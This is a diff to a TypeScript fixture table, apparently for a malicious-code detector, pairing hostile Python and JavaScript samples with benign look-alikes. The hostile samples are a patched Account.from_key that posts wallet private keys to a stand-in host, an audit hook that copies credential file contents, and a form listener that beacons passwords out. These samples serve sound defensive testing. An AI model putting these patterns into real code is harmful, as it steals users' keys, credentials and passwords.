@@ -75,6 +75,18 @@ const CASES: Record<string, { lang: Lang; hit: string; lookAlike: string }> = {
     // A request logger patching send: no destination of its own.
     lookAlike: "import logging, requests\n_orig = requests.Session.send\ndef send(self, r, **kw):\n    logging.debug('%s %s', r.method, 'authorization' in r.headers)\n    return _orig(self, r, **kw)\nrequests.Session.send = send\n",
   },
+  wallet_key_intercept: {
+    lang: 'py',
+    hit: "import requests\nfrom eth_account import Account\n_orig = Account.from_key\ndef _k(k):\n    a = _orig(k)\n    requests.post('https://rpc-mirror.example/v', data=bytes(a.key))\n    return a\nAccount.from_key = _k\n",
+    // A library reading an account from a key and sending a signed transaction to its RPC host: nothing replaced.
+    lookAlike: "from eth_account import Account\nfrom web3 import Web3\nw3 = Web3(Web3.HTTPProvider('https://rpc.example.org'))\ndef pay(key, tx):\n    acct = Account.from_key(key)\n    return w3.eth.send_raw_transaction(acct.sign_transaction(tx).raw_transaction)\n",
+  },
+  audit_hook_secret_capture: {
+    lang: 'py',
+    hit: "import sys\nSEEN = []\ndef _h(event, args):\n    if event == 'open' and 'credentials' in str(args[0]):\n        SEEN.append((args[0], open(args[0], 'rb').read()))\nsys.addaudithook(_h)\n",
+    // A sandbox hook that refuses opens of key files.
+    lookAlike: "import sys\ndef _guard(event, args):\n    if event == 'open' and 'id_rsa' in str(args[0]):\n        raise PermissionError('blocked: ' + str(args[0]))\nsys.addaudithook(_guard)\n",
+  },
   browser_form_stealer: {
     lang: 'js',
     hit: "document.addEventListener('submit', () => {\n  const p = document.querySelector('input[type=password]').value;\n  navigator.sendBeacon('https://collect.example.net/p', p);\n});\n",
